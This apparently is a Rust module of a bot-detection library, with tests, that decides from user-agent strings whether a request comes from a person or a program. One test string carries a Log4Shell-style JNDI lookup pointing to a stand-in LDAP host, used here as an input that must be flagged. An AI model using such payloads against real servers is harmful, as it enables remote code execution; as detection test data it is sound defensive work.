//! What a user agent says of itself, read with the list in `data/bots.txt`.

use std::sync::LazyLock;

use super::list::{Sign, listed};
use super::{Reason, grammar, shape};
use crate::lexicon::{Lexicon, words};
use crate::{Agent, Device};

/// What a user agent makes itself out to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Saying {
    /// A browser or an app with a person in front of it.
    Person,
    /// A program, for that reason.
    Program { reason: Reason, certain: bool },
}

static SIGNS: LazyLock<Lexicon<Sign>> = LazyLock::new(|| Lexicon::new(listed()));

/// What the words said that is no verdict by itself.
#[derive(Debug, Default)]
#[allow(clippy::struct_excessive_bools)] // each is a word that was there or not
struct Heard {
    doubt: Option<Reason>,
    names_something: bool,
    generic: bool,
    trade: bool,
    contact: bool,
    compatible: bool,
    old_browser: bool,
    device: bool,
    engine: bool,
    /// `Mozilla` stood behind something else.
    late: bool,
    /// Where the name of an Android device ends.
    model_end: usize,
}

impl Saying {
    /// Reads the user agent and the brands beside it (`Sec-CH-UA`); `agent` is what was recognised in it.
    pub(super) fn of(user_agent: &str, brands: &str, agent: &Agent<'_>) -> Self {
        let text = user_agent.trim().as_bytes();
        let heard = match Heard::of(text) {
            Ok(heard) => heard,
            Err(reason) => return Self::Program { reason, certain: true },
        };
        if brands.contains("HeadlessChrome") {
            return Self::Program { reason: Reason::Headless, certain: true };
        }
        if !heard.names_something {
            return Self::Program { reason: Reason::EmptyUa, certain: true };
        }
        let netscape = begins(text, "mozilla/") || begins(text, "opera/");
        let on_a_desktop = matches!(agent.device, Device::Desktop | Device::Other);
        // Apps on telephones give an address as well: their customer's.
        let contact = heard.contact && (netscape || on_a_desktop || agent.os.is_empty());
        let is_an_old_phone = !on_a_desktop && !matches!(agent.os, "" | "Android" | "iOS" | "iPadOS");
        // `compatible;` was how the browsers of the nineties claimed to be Netscape. Only robots still say it.
        if heard.generic
            || heard.trade && on_a_desktop
            || contact
            || shape::is_a_template(text)
            || heard.compatible
                && (netscape || on_a_desktop)
                && !(heard.old_browser || heard.device && !netscape)
                && !is_an_old_phone
            || grammar::has_a_guest(text, agent, is_known)
        {
            return Self::Program { reason: Reason::UaList, certain: true };
        }
        if let Some(reason) = heard.doubt {
            return Self::Program { reason, certain: false };
        }
        // No browser since Netscape began otherwise than `Mozilla/`, save for Opera and those known by name. Apps on
        // telephones name the system that they run on; programs on servers name themselves, or put their name
        // before a browser's.
        let known = !(agent.browser.is_empty() && agent.os.is_empty() && agent.brand.is_empty());
        let named = !on_a_desktop || !heard.late && (heard.engine || !agent.browser.is_empty());
        let bare = !text.iter().any(|byte| b"/ ".contains(byte));
        if heard.device || known && (netscape || named && !bare) {
            return Self::Person;
        }
        Self::Program { reason: Reason::UaGenericLibrary, certain: heard.late || !heard.engine }
    }
}

impl Heard {
    /// Listens to every word; a name that is certain ends it.
    fn of(text: &[u8]) -> Result<Self, Reason> {
        let (signs, mut heard) = (&*SIGNS, Self::default());
        for word in words(text) {
            if word.is_number(text) {
                continue;
            }
            heard.names_something = heard.names_something || shape::names(text, word);
            let sign = match signs.at(text, word).map(|found| found.value) {
                Some(Sign::Device) => signs.ending(text, word).or(Some(&Sign::Device)),
                None => signs.ending(text, word),
                found => found,
            };
            match sign {
                Some(&Sign::Named { reason, certain: true }) => return Err(reason),
                Some(&Sign::Named { reason, .. }) => heard.doubt = heard.doubt.or(Some(reason)),
                // Telephones are called Spider and M bot; programs give a version.
                Some(Sign::Generic) => {
                    heard.generic |= word.end > heard.model_end || text.get(word.end) == Some(&b'/');
                }
                Some(Sign::Trade) => heard.trade |= word.end > heard.model_end,
                Some(Sign::Person) => {}
                // Android's `4.0 Compatible` is of its version.
                Some(Sign::Compatible) => heard.compatible |= word.end > heard.model_end,
                Some(Sign::OldBrowser) => (heard.old_browser, heard.engine) = (true, true),
                Some(Sign::Device) => heard.device = true,
                Some(Sign::Engine) => {
                    heard.engine = true;
                    heard.generic |= shape::is_signed(text, word);
                }
                Some(Sign::Android) => {
                    let rest = text.get(word.end..).unwrap_or_default();
                    heard.model_end =
                        word.end + rest.iter().position(|byte| *byte == b')').unwrap_or_default();
                }
                Some(Sign::Mozilla) => heard.late |= word.start > 1,
                Some(Sign::Safari) => {
                    heard.trade |= heard.model_end == 0 && shape::adds_a_product(text, word);
                }
                Some(Sign::TopLevel) => {
                    heard.contact |= word.end > heard.model_end && shape::is_domain(text, word);
                }
                None => {
                    heard.generic |= shape::points_to_itself(text, word);
                    heard.contact |= word.end > heard.model_end && shape::gives_contact(text, word);
                }
            }
        }
        Ok(heard)
    }
}

/// Whether a word of the text belongs to what a person may use.
fn is_known(text: &[u8]) -> bool {
    words(text).any(|word| {
        let of_a_program =
            |sign: &Sign| matches!(sign, Sign::Generic | Sign::Trade | Sign::Named { .. } | Sign::TopLevel);
        let sign = SIGNS.at(text, word).map(|found| found.value).or_else(|| SIGNS.ending(text, word));
        sign.is_some_and(|sign| !of_a_program(sign)) || crate::agent::is_named(text, word)
    })
}

fn begins(text: &[u8], name: &str) -> bool {
    text.get(..name.len()).is_some_and(|head| head.eq_ignore_ascii_case(name.as_bytes()))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::list::LIST;
    use super::*;
    use crate::agent::Headers;

    fn said(user_agent: &str, brands: &str) -> Saying {
        Saying::of(user_agent, brands, &Agent::read(Headers { user_agent, brands, ..Headers::default() }))
    }

    fn reason(user_agent: &str) -> &'static str {
        match said(user_agent, "") {
            Saying::Person => "",
            Saying::Program { reason, .. } => reason.name(),
        }
    }

    #[test]
    fn every_section_of_the_list_is_known() {
        for line in LIST.lines().filter(|line| line.starts_with('[')) {
            let name = line.trim_matches(['[', ']']).trim_end_matches(" doubt");
            let known = Reason::ALL.iter().any(|reason| reason.name() == name);
            let others = [
                "person",
                "generic",
                "trade",
                "compatible",
                "old_browser",
                "device",
                "engine",
                "android",
                "mozilla",
                "safari",
                "top_level",
            ];
            assert!(known || others.contains(&name), "{line}");
        }
        assert!(LIST.lines().all(|line| line == line.trim()), "a space at the end would be part of the name");
        let mut names: Vec<_> = listed().map(|(name, _)| name.to_ascii_lowercase()).collect();
        names.sort_unstable();
        assert!(names.windows(2).all(|pair| pair[0] != pair[1]), "a name stands once");
    }

    #[test]
    fn programs_say_what_they_are() {
        for (user_agent, name) in [
            ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "ua_list"),
            ("Mozilla/5.0 (compatible; BrandNewThing/1.0; +https://new.example/about)", "ua_list"),
            ("Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)", "ua_list"),
            ("Mozilla/5.0 (compatible; NeverHeardOfBot/0.1)", "ua_list"),
            (
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
                "ua_list",
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; SomeAgent) Chrome/142.0 Safari/537.36",
                "ua_list",
            ),
            ("Feedbin - 1 subscribers", "ua_list"),
            ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "ua_list"),
            ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "link_preview"),
            ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "link_preview"),
            ("WhatsApp/2.23.20.0 A", "link_preview"),
            ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "link_preview"),
            ("curl/8.5.0", "ua_generic_library"),
            ("python-requests/2.31.0", "ua_generic_library"),
            ("Go-http-client/2.0", "ua_generic_library"),
            ("Java/17.0.2", "ua_generic_library"),
            ("neverseen/0.8.1", "ua_generic_library"),
            ("Mozilla/5.0 (Windows 11 10.0) Java/1.8.0_391", "ua_generic_library"),
            ("Microsoft Office Access 2013 (15.0.4693) Windows NT 6.2", "ua_list"),
            ("NeverHeardOfLinkChecker/2.1 (iPhone; iOS 18.5)", "ua_list"),
            ("DoCoMo/2.0 P900i(c100;TB;W24H11) (compatible; never/heard; +http://of.example/)", "ua_list"),
            ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; www.example.com)", "ua_list"),
            ("never-heard.de pad browser", "ua_list"),
            ("https://never.example/ Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X)", "ua_list"),
            (
                "Mozilla/5.0 (Windows NT 10.0; ${jndi:ldap://x.example/a}) Gecko/20100101 Firefox/145.0",
                "ua_list",
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0 Safari/537.36",
                "headless",
            ),
            ("", "empty_ua"),
            ("-", "empty_ua"),
            ("Mozilla/4.0 (compatible;)", "empty_ua"),
        ] {
            assert_eq!(reason(user_agent), name, "{user_agent}");
        }
        let brands = r#""HeadlessChrome";v="120""#;
        assert_ne!(said("Mozilla/5.0 (Windows NT 10.0) Chrome/120", brands), Saying::Person);
    }

    #[test]
    fn people_in_apps_and_on_odd_phones_are_people() {
        for user_agent in [
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 330.0.3.29.98 (iPhone15,2; iOS 17_4; en_US; en; scale=3.00; 1179x2556; 593250480)",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/450.0.0.38.109;FBBV/567;FBDV/iPhone15,2;FBMD/iPhone]",
            "Mozilla/5.0 (Linux; Android 13; SM-A135F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36 musical_ly_2023206030 BytedanceWebview/d8a21c6",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Snapchat/12.80.0.42 (like Safari/8617.2.4.10.8, panda)",
            "Mozilla/5.0 (Linux; Android 9; CUBOT_NOTE_S) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 12; CUBOT X50) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0 Mobile Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]",
            "Mozilla/5.0 (Linux; Android 4.0.3; ARCHOS 101G9 Build/ICS@ROM_04.06.2012) AppleWebKit/535.19 (KHTML, like Gecko) Chrome/18.0 Safari/535.19",
            "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.tropicdesigns.net)",
            "ChatGPT/1.2025.322 (iOS 26.1; iPhone17,1; build 19585375154)",
            "NewsOfTodayAndroid/5.9.0 (110807)",
            "News/172 (iPhone10,4; iOS 18.1) NewsHTTPClient/7.1.1",
            "SM-G970F (compatible; Mobile2.0) Some News, com.example.news 5.1.3 (510) / Android 31",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1; SomeApp/1.31.2",
            "Mozilla/5.0 (Linux; Android 14; SM-S918B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.0.0 Mobile Safari/537.36 HiSearch/22.0.6.315",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
            "Mozilla/5.0 (compatible; Konqueror/3.5; OpenBSD) KHTML/3.5.9 (like Gecko)",
            "Mozilla/4.0 (compatible; Some Podcasting; SymbianOS; NokiaN97-4/11.0.102)",
            "GT-I5801_2.1-update1/1",
            "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/34.1244; U; en) Presto/2.8.119 Version/11.10",
        ] {
            assert_eq!(reason(user_agent), "", "{user_agent}");
        }
    }

    proptest! {
        #[test]
        fn any_text_says_something(text in ".{0,200}", brands in ".{0,40}") {
            let _ = said(&text, &brands);
        }

        #[test]
        fn case_does_not_matter(text in "[ -~]{0,80}") {
            // The one place where it does: the shape of old Internet Explorer.
            prop_assume!(!text.to_ascii_uppercase().contains("MSIE "));
            prop_assert_eq!(said(&text, ""), said(&text.to_ascii_uppercase(), ""));
        }
    }
}
